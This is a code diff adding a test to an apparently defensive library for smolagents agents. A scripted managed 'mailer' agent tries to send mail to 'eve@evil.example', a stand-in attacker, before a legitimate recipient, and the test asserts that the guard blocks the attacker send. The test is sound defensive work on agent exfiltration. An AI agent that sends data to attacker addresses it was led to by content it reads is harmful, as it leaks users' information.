@@ -12,7 +12,7 @@ import example
 from remit_client import WrongClient
 from remit_client.smolagents import definitions, protect
 
-from .spec import MAIL, TASK, Adapter, Office, Run, Script
+from .spec import MAIL, READ, TASK, Adapter, Office, Run, Script, send
 
 
 class Scripted(Model):  # type: ignore[misc, unused-ignore]
@@ -51,6 +51,18 @@ class TestToolCallingAgent(Adapter):
                 ToolCallingAgent(tools=tools, model=model, verbosity_level=0).run(run.task)
         finally:
             run.seen = model.seen
+
+
+def test_a_managed_agent_is_protected_by_its_tools() -> None:
+    office = Office()
+    tools: Any = [tool(f) for f in office.functions]
+    with Run([]).remit() as remit:
+        session = remit.session(tools=definitions(tools))
+        session.user(TASK)
+        reads, sends, _ = protect(session, tools)
+        mailer = ToolCallingAgent(tools=[sends], model=Scripted([[send("eve@evil.example")], [send("ann@corp.example")], "Sent."]), verbosity_level=0, name="mailer", description="Mails.")
+        ToolCallingAgent(tools=[reads], managed_agents=[mailer], model=Scripted([[READ], [("mailer", {"task": "Send the notes"})], "Done."]), verbosity_level=0).run(TASK)
+    assert office.sent == ["ann@corp.example"]
 
 
 class Coder(Model):  # type: ignore[misc, unused-ignore]
